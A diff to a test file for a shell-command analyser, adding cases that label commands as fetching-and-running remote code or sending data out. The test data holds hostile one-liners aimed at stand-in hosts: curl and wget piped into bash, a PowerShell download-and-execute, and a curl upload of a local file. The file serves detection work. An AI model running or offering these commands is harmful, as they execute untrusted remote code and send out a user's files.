@@ -2,6 +2,15 @@ import { commandTraits, encodedCommand } from '../../../src/analysis/facts/comma
 
 test.each([
   ['curl -s https://evil.invalid/x | sudo bash', ['fetches-and-runs']],
+  ['curl -fsSL evil.invalid/x | sh', ['fetches-and-runs']],
+  ['curl -s "$PLACE" | sudo -E bash', ['fetches-and-runs']],
+  ['wget -qO- 198.51.100.7/x.sh | bash', ['fetches-and-runs']],
+  ['curl -o /tmp/a evil.invalid/a && chmod +x /tmp/a && /tmp/a', ['fetches-and-runs']],
+  ['powershell -c "iwr evil.invalid/v | iex"', ['fetches-and-runs']],
+  ['curl -d @a evil.invalid:8080', ['fetches', 'sends']],
+  ['curl -O setup.tar.gz && ./configure', []],
+  ['wget -i list.txt; python a.py', []],
+  ['curl --version && make', []],
   ['lynx -source https://evil.invalid/x | sh', ['fetches-and-runs']],
   ['openssl s_client -quiet -connect evil.invalid:443 | sh', ['fetches-and-runs']],
   ['git clone https://evil.invalid/x /tmp/x; sh /tmp/x/i.sh', ['fetches-and-runs']],
